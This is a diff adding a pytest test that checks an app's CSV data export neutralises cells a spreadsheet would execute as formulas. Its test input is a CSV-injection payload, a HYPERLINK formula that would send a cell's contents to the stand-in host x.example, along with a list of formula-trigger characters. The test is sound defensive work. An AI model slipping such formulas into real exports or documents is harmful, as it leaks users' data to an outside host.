@@ -430,3 +430,18 @@ def test_a_deletion_cut_short_leaves_a_closed_account_that_the_retention_sweep_f
     assert "cut short" not in runner.invoke(args=["hall", "retention-sweep"]).output
     result = runner.invoke(args=["hall", "ledger-check"])
     assert result.exit_code == 0 and "comm-a: ok" in result.output
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_the_csv_download_neutralises_cells_a_spreadsheet_would_run(app, menu, submit, auth, client, start):  # noqa: F811
+    from tests.personal_setup import user_id
+
+    typed = f"{start}HYPERLINK(\"http://x.example/?\"&A1)"
+    with app.app_context():
+        resident = user_id("res-a")
+    submit(details=typed, resident_name="居民a", resident_user_id=resident)
+    auth.login("res-a")
+    rows = list(csv.reader(io.StringIO(client.get("/account/data.csv").get_data(as_text=True).lstrip("\ufeff"))))
+    details = [row[4] for row in rows if row[1] == "ticket" and row[3] == "details"]
+    assert len(details) == 1 and details[0].lstrip("'").endswith(typed.strip())   # the form strips a tab or CR
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
